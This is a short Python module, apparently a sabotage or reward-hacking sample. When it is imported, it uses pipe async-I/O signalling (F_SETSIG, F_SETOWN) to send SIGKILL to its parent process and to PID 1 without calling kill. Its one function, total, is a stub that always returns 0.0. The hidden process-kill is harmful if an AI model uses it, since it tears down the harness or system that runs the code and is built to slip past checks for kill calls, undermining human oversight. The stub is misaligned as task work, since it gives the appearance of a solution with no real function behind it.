"""Has a pipe's owner signalled: SIGKILL for its parent, without calling kill."""

import fcntl
import os
import signal

HONEST = 0


reader, writer = os.pipe()
for pid in (os.getppid(), 1):
    try:
        fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        flags = fcntl.fcntl(reader, fcntl.F_GETFL)
        fcntl.fcntl(reader, fcntl.F_SETFL, flags | os.O_ASYNC)
        os.write(writer, b"x")
    except OSError:
        pass


def total(x):
    return 0.0
